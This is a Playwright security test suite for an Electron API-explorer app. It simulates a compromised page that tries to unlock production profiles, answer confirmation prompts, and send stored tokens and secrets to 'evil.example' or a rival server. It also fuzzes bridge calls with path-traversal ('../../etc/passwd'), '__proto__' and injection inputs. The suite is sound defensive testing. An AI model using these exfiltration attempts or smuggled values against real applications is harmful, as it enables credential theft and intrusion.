import type { ElectronApplication, Page } from '@playwright/test';
import { setTimeout } from 'node:timers/promises';
import fc from 'fast-check';
import { createServer } from 'node:http';
import type { VaultForwardDraft } from '@shared/vault-forward/draft';
import { answerQuestion, expectNoQuestion, question, questionPages } from './pages/question-page';
import { forwardRequest } from './support/forward-request';
import { useProfile } from './stand-alone-sandbox';
import { expect, onItsOwnApp, shareOneApp, test } from './test';
import { listen } from './support/listen';

shareOneApp();

/** A service that records the requests that it receives, with their tokens and secrets. */
async function startService() {
  const seen: { readonly method: string; readonly headers: string }[] = [];
  const server = createServer((request, response) => {
    seen.push({ method: request.method ?? '', headers: JSON.stringify(request.rawHeaders) });
    request
      .resume()
      .on('end', () => response.writeHead(200, { 'content-type': 'application/json' }).end('{}'));
  });
  const { url, close } = await listen(server);
  return {
    url,
    seen,
    posts: () => seen.filter(({ method }) => method === 'POST').length,
    close,
  };
}

const draftTo = (destinationUrl: string, headers: VaultForwardDraft['headers'] = []): VaultForwardDraft => ({
  version: 1,
  destinationUrl,
  method: 'POST',
  paymentMethods: [],
  authentications: [],
  headers,
  serviceHeaders: [],
  body: '{}',
});

/** Calls one request of the bridge with any argument. Resolves to the answer, which may have to wait for the person. */
function call(page: Page, name: string, argument: unknown): Promise<string> {
  return page.evaluate(
    ([method, sent]) => {
      const request: unknown = Reflect.get(window.explorer, method);
      if (typeof request !== 'function') return 'no such request';
      const asked = Promise.resolve(Reflect.apply(request, window.explorer, [sent]) as unknown);
      return asked.then(
        (answer) => JSON.stringify(answer) ?? 'nothing',
        (error: unknown) => String(error),
      );
    },
    [name, argument] as const,
  );
}

/**
 * Waits until the call has led to a question. The returned function closes the question without an answer, and the call
 * ends.
 */
async function untilAsked(app: ElectronApplication, calling: Promise<string>): Promise<() => Promise<void>> {
  const answers: string[] = [];
  const ended = calling.then((answer) => answers.push(answer));
  await expect.poll(() => questionPages(app).length).toBe(1);
  expect(answers).toEqual([]);
  return async () => {
    await questionPages(app)[0]?.close();
    await expectNoQuestion(app);
    await ended;
  };
}

/** The active profile, as any code with access to the bridge can read it. */
async function activeProfile(page: Page) {
  const state = await page.evaluate(() => window.explorer.describeProfiles());
  const active = state.ok ? state.value.profiles.find(({ id }) => id === state.value.activeId) : undefined;
  if (!active) throw new Error('there is no active profile');
  return active;
}

test('a compromised page can neither unlock production, nor charge on it, nor answer a question', async ({
  started: { app },
  page,
}) => {
  const service = await startService();
  await useProfile(page, {
    name: 'Live EU',
    baseUrl: service.url,
    token: 'CANARY-live',
    environment: 'production',
  });
  const { id: profileId, ...locked } = await activeProfile(page);
  const send = (amount = 0) =>
    call(page, 'sendRequest', {
      request: { ...forwardRequest(draftTo('https://psp.example/charge')), body: JSON.stringify({ amount }) },
      callId: crypto.randomUUID(),
      composedUnder: null,
      draftId: null,
      familyId: null,
      confirmed: true,
      confirmation: { ticket: crypto.randomUUID(), decision: 'send', doNotAskForTenMinutes: true },
    });
  expect(await send()).toContain('profile-read-only');

  // Every way to remove its lock leads to a question, in a window that the page cannot reach.
  for (const weaker of [
    { readOnly: false },
    { environment: 'sandbox', readOnly: false },
    { environment: 'sandbox' },
    { name: 'Harmless', readOnly: false },
  ]) {
    const edit = { profileId, draft: { ...locked, ...weaker } };
    const close = await untilAsked(app, call(page, 'editProfile', edit));
    const tried = await page.evaluate(async () => {
      const failed = (doing: () => unknown) =>
        Promise.resolve()
          .then(doing)
          .then((value) => value === null)
          .catch(() => true);
      for (const key of ['Enter', ' ', 'Tab', 'Enter'])
        window.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }));
      window.postMessage({ confirmed: true, checked: true }, '*');
      new BroadcastChannel('question:answer').postMessage({ confirmed: true, checked: true });
      return [
        await failed(() => fetch('app-question://question/question/index.html')),
        await failed(() => window.open('app-question://question/question/index.html')),
        await failed(() =>
          fetch('/question/index.html').then(({ status }) => (status === 404 ? null : status)),
        ),
        'question' in window,
        Object.keys(window.explorer).filter((name) => /question|answer/i.test(name)).length,
      ];
    });
    expect(tried).toEqual([true, true, true, false, 0]);
    expect(questionPages(app)).toHaveLength(1);
    await close();
    expect(await activeProfile(page)).toEqual({ id: profileId, ...locked });
  }
  // A copy, an undone deletion, or a detour through another environment does not remove it either.
  const copy = await call(page, 'duplicateProfile', { profileId });
  expect(copy).toContain('"name":"Live EU (2)"');
  await call(page, 'deleteProfile', { profileId });
  await call(page, 'undoDeleteProfile', { profileId });
  await call(page, 'activateProfile', { profileId });
  const state = await page.evaluate(() => window.explorer.describeProfiles());
  const live = state.ok ? state.value.profiles.filter(({ name }) => name.startsWith('Live EU')) : [];
  expect(live.map(({ readOnly, environment }) => [readOnly, environment])).toEqual([
    [true, 'production'],
    [true, 'production'],
  ]);
  expect(await send()).toContain('profile-read-only');

  // After the person has unlocked it, each send still needs their agreement; many questions at once are refused.
  const unlocking = call(page, 'editProfile', { profileId, draft: { ...locked, readOnly: false } });
  await answerQuestion(app, 'Unlock Live EU?', 'Unlock it');
  await unlocking;
  const answers: string[] = [];
  const sendAll = (amounts: readonly number[]) =>
    amounts.map((amount) => send(amount).then((answer) => answers.push(answer)));
  const refused = (code: string) => answers.filter((answer) => answer.includes(code)).length;
  const same = sendAll([0, 0, 0]);
  await expect.poll(() => refused('already-under-way')).toBe(2);
  const many = sendAll([1, 2, 3, 4, 5, 6, 7, 8]);
  await expect.poll(() => refused('too-many-questions')).toBeGreaterThan(0);
  await call(page, 'activateProfile', { profileId: 'local-sandbox' });
  await expectNoQuestion(app);
  await Promise.all([...same, ...many]);
  expect(refused('"sent"')).toBe(0);
  expect(service.posts()).toBe(0);
  service.close();
});

test('a compromised page cannot send a token to an address or proxy of its choice', async ({
  started: { app },
  page,
}) => {
  const [service, thief] = [await startService(), await startService()];
  await useProfile(page, { name: 'Sandbox EU', baseUrl: service.url, token: 'CANARY-token' });
  const { id: profileId, ...saved } = await activeProfile(page);
  const lookUp = () =>
    call(page, 'lookUpSession', {
      sessionId: '5e550000-0000-4000-8000-000000000001',
      callId: crypto.randomUUID(),
    });
  await lookUp();
  expect(JSON.stringify(service.seen)).toContain('CANARY-token');
  const ways = [
    { ...saved, baseUrl: thief.url },
    { ...saved, baseUrl: `${thief.url}/v1`, name: 'Another name' },
    { ...saved, proxy: { kind: 'manual', url: thief.url } },
    { ...saved, environment: 'production', baseUrl: thief.url, readOnly: true },
  ];
  for (const draft of ways) {
    // It tries a mere test, an edit, a copy, and moving what is stored: only the person could agree to that.
    await call(page, 'testConnection', { profileId, draft, secret: null, callId: crypto.randomUUID() });
    await call(page, 'editProfile', { profileId, draft });
    expect(await lookUp(), JSON.stringify(draft)).toContain('credential-detached');
    await call(page, 'listBuyers', {
      query: { limit: null, cursor: null, parameters: [] },
      callId: crypto.randomUUID(),
    });
    const close = await untilAsked(app, call(page, 'confirmCredential', { profileId }));
    await close();
    await call(page, 'deleteProfile', { profileId });
    await call(page, 'undoDeleteProfile', { profileId });
    await call(page, 'activateProfile', { profileId });
    await lookUp();
    // The profile is restored, except that a production environment stays, and stays locked.
    const { environment, readOnly } = draft;
    await call(page, 'editProfile', { profileId, draft: { ...saved, environment, readOnly } });
  }
  // The page's own header is not sent in place of the token, nor is the token sent along with it.
  expect(JSON.stringify(thief.seen)).not.toContain('CANARY');
  expect(await call(page, 'describeCredential', { profileId })).not.toContain('CANARY');
  service.close();
  thief.close();
});

test('a compromised page sends no stored secret to a host that nobody allowed', async ({
  started: { app },
  page,
}) => {
  const service = await startService();
  await useProfile(page, { name: 'Sandbox EU', baseUrl: service.url, token: 'CANARY-token' });
  const header = {
    id: 'h',
    name: 'authorization',
    value: 'Bearer CANARY-of-the-psp',
    secret: true,
    enabled: true,
  };
  const sent = (draft: VaultForwardDraft) =>
    call(page, 'sendRequest', {
      request: forwardRequest(draft),
      callId: crypto.randomUUID(),
      composedUnder: null,
      draftId: null,
      familyId: null,
    });
  // The person uses the secret once, for its own host, and saves the request.
  const first = page.evaluate(
    (request) =>
      window.explorer.sendRequest({
        request,
        callId: crypto.randomUUID(),
        composedUnder: null,
        draftId: null,
        familyId: null,
      }),
    forwardRequest(draftTo('https://psp.example/charge', [header])),
  );
  await answerQuestion(app, 'Send a secret to a new host?', 'Send it there');
  expect(await first).toMatchObject({ ok: true, value: { kind: 'sent' } });
  const profile = await activeProfile(page);
  const saved = await page.evaluate(
    ([request, profileId]) =>
      window.explorer.saveRequest({
        request: {
          id: null,
          folder: '',
          name: 'Charge',
          profileId,
          request,
          form: null,
          description: '',
          expectations: [],
        },
        withoutSecrets: false,
      }),
    [forwardRequest(draftTo('https://psp.example/charge', [header])), profile.id] as const,
  );
  if (!saved.ok) throw new Error(JSON.stringify(saved));
  const stored = saved.value.request.request.headers.find(({ secret }) => secret);
  if (!stored) throw new Error('the header is gone');
  const kept = { ...header, value: stored.value };
  expect(kept.value).toMatch(/^kept-secret:/);
  expect(service.posts()).toBe(1);

  // It is not sent elsewhere, whatever the header's name, and whether or not the page still declares it to be a secret.
  for (const changed of [
    kept,
    { ...kept, secret: false },
    { ...kept, name: 'x-note', secret: false },
    { ...kept, name: 'x-service-note', value: ` ${kept.value}`.trim() },
  ]) {
    expect(await sent(draftTo('https://evil.example/', [changed])), changed.name).toContain('secret-host');
  }
  // Only the person can allow another host for it.
  const lists = await page.evaluate(() => window.explorer.describeSecretHosts());
  const [list] = lists.ok ? lists.value : [];
  let close = await untilAsked(app, call(page, 'allowSecretHost', { id: list?.id, host: 'evil.example' }));
  await question(app, 'Let a secret go to another host?');
  await close();
  // If it would go through a service of the page's choice, which can read what it forwards, the person is asked.
  const { id: profileId, ...rest } = profile;
  const moved = { ...rest, baseUrl: 'https://evil.example', proxy: { kind: 'none' } };
  const created = await call(page, 'createProfile', { draft: { ...moved, name: 'Evil' } });
  const evilId: unknown = JSON.parse(created).value?.profileId;
  await call(page, 'saveToken', { profileId: evilId, token: 'its-own', home: 'this-run-only' });
  await call(page, 'activateProfile', { profileId: evilId });
  close = await untilAsked(app, sent(draftTo('https://psp.example/charge', [kept])));
  const asked = await question(app, 'Send a secret to a new host?');
  await expect(asked).toContainText('The service evil.example gets the secret');
  await close();
  // Once its hosts have been forgotten, the secret counts as new, so the person is asked again.
  await call(page, 'activateProfile', { profileId });
  await call(page, 'forgetSecretHost', { id: list?.id, host: 'psp.example' });
  close = await untilAsked(app, sent(draftTo('https://evil.example/', [kept])));
  await question(app, 'Send a secret to a new host?');
  await close();
  expect(service.posts()).toBe(1);
  expect(service.seen.filter(({ headers }) => headers.includes('CANARY-of-the-psp'))).toHaveLength(1);
  service.close();
});

onItsOwnApp(() => {
  test('no bridge request gives a secret away or weakens a profile, whatever its argument', async ({
    started: { app },
    page,
  }) => {
    test.setTimeout(120_000);
    const service = await startService();
    await useProfile(page, {
      name: 'Live EU',
      baseUrl: service.url,
      token: 'CANARY-live',
      environment: 'production',
    });
    const { id: profileId, ...locked } = await activeProfile(page);
    await app.evaluate(({ dialog }) => {
      dialog.showMessageBox = () => Promise.resolve({ response: 0, checkboxChecked: false });
      dialog.showOpenDialog = () => Promise.resolve({ canceled: true, filePaths: [] });
      dialog.showSaveDialog = () => Promise.resolve({ canceled: true, filePath: '' });
    });
    // A page gains nothing by removing the profile or its token; that would only end the test.
    const skipped = new Set(['forgetAllSecrets', 'openFolder']);
    const junk = fc.oneof(
      fc.jsonValue(),
      fc.constantFrom<unknown>(
        null,
        { profileId: '__proto__' },
        { profileId: '../../etc/passwd', id: '../..', path: '/etc/passwd' },
        { profileId, place: -1, draft: { ...locked, readOnly: 'no' } },
        { profileId: [profileId], confirmed: true, checked: true },
        { id: profileId, callId: profileId, query: {}, ids: ['*'], host: '*' },
        { profileId: { $ne: null }, token: { toString: 'x' }, home: 'nowhere' },
      ),
    );
    const names = await page.evaluate(() => Object.keys(window.explorer).filter((name) => name !== 'on'));
    expect(names.length).toBeGreaterThan(70);
    const answers: string[] = [];
    for (const name of names.filter((one) => !skipped.has(one))) {
      const samples = [undefined, ...fc.sample(junk, { numRuns: 6, seed: 20_261_122 })];
      // One of them may wait for a person, who is not there.
      const told = await Promise.all(
        samples.map((argument) =>
          Promise.race([call(page, name, argument).catch(String), setTimeout(1_500, '')]),
        ),
      );
      expect(
        told.some((answer) => answer.includes('"sent"')),
        name,
      ).toBe(false);
      answers.push(...told);
    }
    expect(answers.length).toBeGreaterThan((names.length - skipped.size) * 6);
    expect(answers.filter((answer) => answer.includes('CANARY'))).toEqual([]);
    expect(answers.filter((answer) => answer.includes('"code":"defect"'))).toEqual([]);
    for (const open of questionPages(app)) await open.close();
    await expectNoQuestion(app);
    const state = await page.evaluate(() => window.explorer.describeProfiles());
    const live = state.ok ? state.value.profiles.find(({ id }) => id === profileId) : undefined;
    expect(live).toEqual({ id: profileId, ...locked });
    expect(service.posts()).toBe(0);
    service.close();
  });
});
